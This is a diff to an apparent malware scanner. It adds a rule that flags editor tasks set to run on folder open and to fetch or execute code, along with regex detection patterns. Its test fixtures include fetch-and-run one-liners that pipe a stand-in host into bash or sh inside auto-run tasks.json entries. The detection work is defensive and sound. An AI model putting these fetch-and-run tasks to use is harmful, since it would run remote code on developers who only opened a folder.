@@ -55,6 +55,20 @@ static WORKFLOW_WRITE: Signal = Signal::command(
     r#"(?:>|>>|tee\s+(?:-a\s+)?|cp\s+\S+\s+|mv\s+\S+\s+|curl\b[^\n]*-o\s*|wget\b[^\n]*-O\s*)\s*["']?\S*\.github/workflows/\S+|(?:write_text|writeFile(?:Sync)?|open)\s*\([^\n]*\.github/workflows/[^\n]*"#,
 );
 
+/// A task that an editor starts when a folder is opened.
+static ON_OPENING: Signal = Signal::command(
+    &["folderopen"],
+    r#"\brunOn["']?\s*:\s*["']folderOpen\b"#,
+);
+
+/// What a task fetches or writes out in place.
+static TASK_ACT: Signal = Signal::command(
+    &["curl", "wget", "iwr", "irm", "invoke-", " -e", " -c", "base64"],
+    r"(?x)
+      \b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]*://
+    | \b(?:node|perl|ruby)\s+-e\b | \bpython3?\s+-c\b | \bbase64\s+-",
+);
+
 pub(super) static RULES: &[Rule] = &[
     Rule {
         id: "MALWAR-BUILD-001",
@@ -193,6 +207,26 @@ pub(super) static RULES: &[Rule] = &[
             "@scripts/postinst.sh\nwget -qO- https://c.fast-agent.top/x | sh\n",
         ],
         misses: &["@postinstall.js\nconsole.log('thanks');\n", "@install.sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n"],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-BUILD-010",
+        title: "Opening a folder in an editor runs what is fetched",
+        severity: Severity::Critical,
+        confidence: 80,
+        category: Category::SupplyChain,
+        taxa: &["SC-05", "CE-01"],
+        why: "who opens a folder to read it has not asked for anything to run",
+        fix: "remove the task; if the folder was opened, look for what it started",
+        when: When::Near(400, &[&[&ON_OPENING], &[&TASK_ACT]]),
+        hits: &[
+            "@tasks.json\n{\"tasks\": [{\"command\": \"curl -sL https://c.fast-agent.top/w | bash\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
+            "@tasks.json\n{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}, \"command\": \"node -e 'require(1)'\"}]}\n",
+        ],
+        misses: &[
+            "@tasks.json\n{\"tasks\": [{\"command\": \"npm run watch\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
+            "@tasks.json\n{\"tasks\": [{\"command\": \"curl -s https://c.fast-agent.top/w\"}]}\n",
+        ],
         ..Rule::BASE
     },
 ];
